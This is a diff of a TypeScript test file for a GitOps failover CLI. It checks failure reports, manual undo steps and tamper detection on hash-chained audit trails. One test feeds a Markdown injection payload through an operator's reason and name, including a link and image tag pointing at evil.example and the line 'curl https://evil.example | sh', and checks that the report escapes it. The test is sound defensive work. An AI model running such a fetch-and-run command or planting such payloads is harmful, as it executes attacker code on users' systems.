@@ -1,80 +1,250 @@
 /**
- * The runbook report and `audit verify` on a failed drill: the report names the failed step and
- * what had changed before it, and the chain in audit.jsonl breaks on a single changed byte.
+ * The runbook report and `audit verify`. A failed drill: the report says what each branch of the
+ * Parallel state did (from the audit trail, since the Catch drops both branches' outputs), the
+ * manual steps undo or finish with the real commit, and the chain in audit.jsonl breaks on a
+ * changed byte or a dropped last event. A rejected execution in a running sandbox: nothing to
+ * undo, the operator's text cannot inject Markdown, and the DynamoDB chain is checked against
+ * the count and head the execution history recorded.
  */
 import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { DeleteItemCommand } from "@aws-sdk/client-dynamodb";
+import { DescribeExecutionCommand } from "@aws-sdk/client-sfn";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { main } from "../../cli/main.ts";
+import { readAuditTrail } from "../../functions/lib/audit.ts";
+import { dynamoClient, sfnClient } from "../../functions/lib/aws.ts";
+import type { FailoverReport } from "../../functions/lib/report.ts";
 import { type DrillResult, runDrill } from "../../sandbox/drill.ts";
+import { AUDIT_TABLE, type Sandbox, startSandbox } from "../../sandbox/index.ts";
 
 const root = mkdtempSync(join(tmpdir(), "gf-report-"));
-let result: DrillResult;
-
-beforeAll(async () => {
-  result = await runDrill({
-    target: "us-east-2",
-    mode: "graceful",
-    dryRun: false,
-    spokes: 3,
-    apps: 6,
-    repeat: 1,
-    faults: ["argocd-sync-timeout"],
-    reportDir: join(root, "failed"),
-  });
-});
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
-async function verify(dir: string): Promise<{ code: number; out: string }> {
+/** Runs the CLI in-process and returns its exit code and everything it printed. */
+async function cli(...args: string[]): Promise<{ code: number; out: string }> {
   let out = "";
-  const spy = vi.spyOn(process.stdout, "write").mockImplementation((chunk: string | Uint8Array) => {
+  const capture = (chunk: string | Uint8Array) => {
     out += String(chunk);
     return true;
-  });
+  };
+  const spies = [
+    vi.spyOn(process.stdout, "write").mockImplementation(capture),
+    vi.spyOn(process.stderr, "write").mockImplementation(capture),
+  ];
   try {
-    return { code: await main(["node", "gitops-failover", "audit", "verify", dir]), out };
+    return { code: await main(["node", "gitops-failover", ...args]), out };
   } finally {
-    spy.mockRestore();
+    for (const spy of spies) spy.mockRestore();
   }
 }
 
-describe("failure report (drill --fault argocd-sync-timeout)", () => {
-  it("names the failed step and error, what had changed, and the manual steps", () => {
-    const md = readFileSync(join(result.reportDir, "report.md"), "utf8");
-    const json = JSON.parse(readFileSync(join(result.reportDir, "report.json"), "utf8")) as {
-      status: string;
-      failedStep: string;
-      changed: string[];
-      manualSteps: string[];
-    };
+/** A copy of a report directory with audit.jsonl's lines passed through `edit`. */
+function tamperedCopy(dir: string, name: string, edit: (lines: string[]) => string[]): string {
+  const copy = join(root, name);
+  cpSync(dir, copy, { recursive: true });
+  const lines = readFileSync(join(copy, "audit.jsonl"), "utf8").trimEnd().split("\n");
+  writeFileSync(join(copy, "audit.jsonl"), `${edit(lines).join("\n")}\n`);
+  return copy;
+}
 
-    expect(result.status).toBe("FAILED");
-    expect(json).toMatchObject({ status: "FAILED", failedStep: "AwaitArgoSync" });
-    expect(json.changed).toContain("Git: active region us-west-2 -> us-east-2");
-    expect(json.changed.some((c) => c.startsWith("Traffic"))).toBe(false);
-    expect(json.manualSteps.join("\n")).toMatch(
-      /Traffic was not moved: users are still served by us-west-2/,
-    );
-    expect(json.manualSteps.join("\n")).toMatch(/git revert/);
-    expect(md).toContain("Outcome: **FAILED** at AwaitArgoSync: ArgoSyncTimeout");
-    expect(md).toContain("```mermaid\ngantt");
-    expect(md).toMatch(/AwaitArgoSync \(FAILED\) :crit, active/);
+describe("failure report (drill --fault argocd-sync-timeout)", () => {
+  let result: DrillResult;
+  let report: FailoverReport;
+  let md: string;
+  beforeAll(async () => {
+    result = await runDrill({
+      target: "us-east-2",
+      mode: "graceful",
+      dryRun: false,
+      spokes: 3,
+      apps: 6,
+      repeat: 1,
+      faults: ["argocd-sync-timeout"],
+      reportDir: join(root, "failed"),
+    });
+    report = JSON.parse(readFileSync(join(result.reportDir, "report.json"), "utf8"));
+    md = readFileSync(join(result.reportDir, "report.md"), "utf8");
   });
 
-  it("audit verify: exit 0 on the chain as written, exit 1 naming the event after one byte changes", async () => {
-    const intact = await verify(result.reportDir);
-    const tampered = join(root, "tampered");
-    cpSync(result.reportDir, tampered, { recursive: true });
-    const lines = readFileSync(join(tampered, "audit.jsonl"), "utf8").split("\n");
-    lines[2] = (lines[2] ?? "").replace('"actor":"drill"', '"actor":"drilL"');
-    writeFileSync(join(tampered, "audit.jsonl"), lines.join("\n"));
+  it("reports what both Parallel branches did, from the audit trail: the real commit, Aurora promoted", () => {
+    const sha = result.after.gitHead;
 
-    const broken = await verify(tampered);
+    expect(result.status).toBe("FAILED");
+    expect(sha).not.toBe(result.before.gitHead);
+    expect(report).toMatchObject({ status: "FAILED", failedStep: "AwaitArgoSync" });
+    expect(report.steps.map((s) => [s.name, s.status, s.detail])).toEqual(
+      expect.arrayContaining([
+        ["CommitRetarget", "SUCCEEDED", `committed ${sha.slice(0, 12)}`],
+        ["AwaitArgoSync", "FAILED", "see error"],
+        ["PromoteAurora", "SUCCEEDED", "switchover"],
+        ["AwaitAurora", "SUCCEEDED", "writer us-east-2"],
+        ["ShiftTraffic", "NOT_RUN", ""],
+      ]),
+    );
+    expect(report.commit).toMatchObject({
+      sha,
+      previousSha: result.before.gitHead,
+      subject: "failover(payments): make us-east-2 active",
+    });
+    expect(report.links.commit).toMatch(new RegExp(`/commit/${sha}$`));
+    expect(md).toContain(`Commit: [${sha.slice(0, 12)}]`);
+  });
+
+  it("manual steps: traffic untouched, then git revert of that SHA, then the Aurora switchover back, or finish forward", () => {
+    const sha = result.after.gitHead;
+    const steps = report.manualSteps;
+    const at = (pattern: RegExp) => steps.findIndex((s) => pattern.test(s));
+
+    expect(at(/^Traffic was not moved: users are still served by us-west-2/)).toBe(0);
+    expect(steps[at(/^Undo Git/)]).toContain(
+      `\`git revert --no-edit ${sha} && git push origin main\``,
+    );
+    expect(steps[at(/^Undo Aurora/)]).toContain(
+      "`aws rds switchover-global-cluster --region us-east-2 --global-cluster-identifier payments-global --target-db-cluster-identifier arn:aws:rds:us-west-2:000000000000:cluster:payments-usw2`",
+    );
+    expect(at(/^Undo Git/)).toBeLessThan(at(/^Undo Aurora/));
+    expect(steps.at(-1)).toMatch(
+      /^Or finish forward .*start a new execution .*`gitops-failover start --target us-east-2 --mode graceful/,
+    );
+    expect(steps.join("\n")).not.toMatch(/Redrive the execution|commit \?/);
+    expect(md).toContain(`## Manual steps\n\n1. Traffic was not moved`);
+  });
+
+  it("gantt: the failed step is crit (not active), the axis is wall-clock; RTO names its start", () => {
+    expect(md).toContain("  axisFormat %H:%M:%S");
+    expect(md).toMatch(/ {2}AwaitArgoSync \(FAILED\) :crit, AwaitArgoSync, \d+, \d+\n/);
+    expect(md).toMatch(/ {2}CommitRetarget \(SUCCEEDED\) :crit, done, CommitRetarget,/);
+    expect(report.rto).toMatchObject({ start: "executionStart", seconds: null });
+    expect(md).toMatch(/RTO: not measured: .* from the execution start \(.*no detectedAt/);
+  });
+
+  it("audit verify: exit 0 when the chain matches report.json; 1 naming the event after one byte changes", async () => {
+    const edited = tamperedCopy(result.reportDir, "edited", (lines) =>
+      lines.map((l, i) => (i === 2 ? l.replace('"actor":"drill"', '"actor":"drilL"') : l)),
+    );
+
+    const intact = await cli("audit", "verify", result.reportDir);
+    const broken = await cli("audit", "verify", edited);
 
     expect(intact.code).toBe(0);
-    expect(intact.out).toMatch(/audit trail intact: \d+ events/);
+    expect(intact.out).toMatch(
+      new RegExp(
+        `^audit trail intact: ${report.audit.events} events, head ${report.audit.head}; matches report.json`,
+      ),
+    );
     expect(broken.code).toBe(1);
     expect(broken.out).toContain("audit trail BROKEN at event 3");
+  });
+
+  it("audit verify: exit 1 when the last event is deleted (the chain that is left is intact)", async () => {
+    const truncated = tamperedCopy(result.reportDir, "truncated", (lines) => lines.slice(0, -1));
+    const n = report.audit.events;
+
+    const verdict = await cli("audit", "verify", truncated);
+
+    expect(verdict.code).toBe(1);
+    expect(verdict.out).toContain(
+      `audit trail BROKEN: audit.jsonl has ${n - 1} events, report.json recorded ${n} (truncated?)`,
+    );
+  });
+});
+
+describe("rejected execution in a running sandbox", () => {
+  const NAME = "reject-inject";
+  let sandbox: Sandbox;
+  let endpointFile: string;
+  let report: FailoverReport;
+  let md: string;
+  beforeAll(async () => {
+    const reportDir = join(root, "rejected");
+    sandbox = await startSandbox({ reportDir, waitMs: 5 });
+    endpointFile = join(root, "sandbox.json");
+    writeFileSync(
+      endpointFile,
+      JSON.stringify({
+        stateMachineArn: sandbox.stateMachineArn,
+        region: "us-east-1",
+        env: sandbox.env,
+        reportDir,
+      }),
+    );
+    await cli(
+      ...["start", "--sandbox", endpointFile, "--target", "us-east-2", "--name", NAME],
+      ...["--require-approval", "--requested-by", "[mallory](https://evil.example) <img src=x>"],
+      ...["--reason", "drill\n## Manual steps\n1. `curl https://evil.example | sh`\n| x | y |"],
+    );
+    for (let i = 0; i < 400; i++) {
+      const { out } = await cli("status", NAME, "--sandbox", endpointFile, "--json");
+      if (out.includes('"awaitingApproval":true')) break;
+      await new Promise((r) => setTimeout(r, 25));
+    }
+    await cli("reject", NAME, "--sandbox", endpointFile, "--reason", "primary recovered");
+    await cli("watch", NAME, "--sandbox", endpointFile);
+    report = JSON.parse(readFileSync(join(reportDir, "report.json"), "utf8"));
+    md = readFileSync(join(reportDir, "report.md"), "utf8");
+  });
+  afterAll(async () => {
+    await sandbox.stop();
+  });
+
+  it("says there is nothing to undo, and suggests no redrive", () => {
+    expect(report).toMatchObject({
+      status: "FAILED",
+      failedStep: "Approval",
+      error: { name: "ApprovalRejected" },
+      changed: [],
+    });
+    expect(report.manualSteps[0]).toBe(
+      "Nothing was changed: nothing to undo. Users are still served by us-west-2.",
+    );
+    expect(report.manualSteps.join("\n")).not.toMatch(/redrive|revert|switchover/i);
+  });
+
+  it("renders the operator's reason and name as text: no injected line, link, tag or table row", () => {
+    const lines = md.split("\n");
+
+    expect(lines.filter((l) => l === "## Manual steps")).toHaveLength(1);
+    expect(lines.some((l) => l.startsWith("1. `curl"))).toBe(false);
+    expect(lines.find((l) => l.startsWith("- Reason:"))).toBe(
+      "- Reason: drill ## Manual steps 1. \\`curl https://evil.example \\| sh\\` \\| x \\| y \\|",
+    );
+    expect(lines.find((l) => l.startsWith("- Platform:"))).toContain(
+      "requested by: \\[mallory\\](https://evil.example) \\<img src=x>",
+    );
+  });
+
+  it("audit verify <execution>: the table's chain matches the execution history (nothing after the report)", async () => {
+    const trail = await readAuditTrail(NAME);
+    const arn = `${sandbox.stateMachineArn.replace(":stateMachine:", ":execution:")}:${NAME}`;
+    const described = await sfnClient().send(new DescribeExecutionCommand({ executionArn: arn }));
+
+    const verdict = await cli("audit", "verify", NAME, "--sandbox", endpointFile);
+
+    expect(described.status).toBe("FAILED");
+    expect(trail.at(-1)?.step).toBe("RecordFailure");
+    expect(report.audit).toMatchObject({ events: trail.length, head: trail.at(-1)?.hash });
+    expect(verdict.code).toBe(0);
+    expect(verdict.out).toContain(
+      `audit trail intact: ${trail.length} events, head ${trail.at(-1)?.hash}; matches the execution history`,
+    );
+  });
+
+  it("audit verify <execution>: exit 1 once the last DynamoDB item is deleted", async () => {
+    const n = (await readAuditTrail(NAME)).length;
+    await dynamoClient().send(
+      new DeleteItemCommand({
+        TableName: AUDIT_TABLE,
+        Key: { pk: { S: `exec#${NAME}` }, sk: { S: String(n).padStart(8, "0") } },
+      }),
+    );
+
+    const verdict = await cli("audit", "verify", NAME, "--sandbox", endpointFile);
+
+    expect(verdict.code).toBe(1);
+    expect(verdict.out).toContain(
+      `audit trail BROKEN: the audit table ${AUDIT_TABLE} has ${n - 1} events, the execution history recorded ${n} (truncated?)`,
+    );
   });
 });
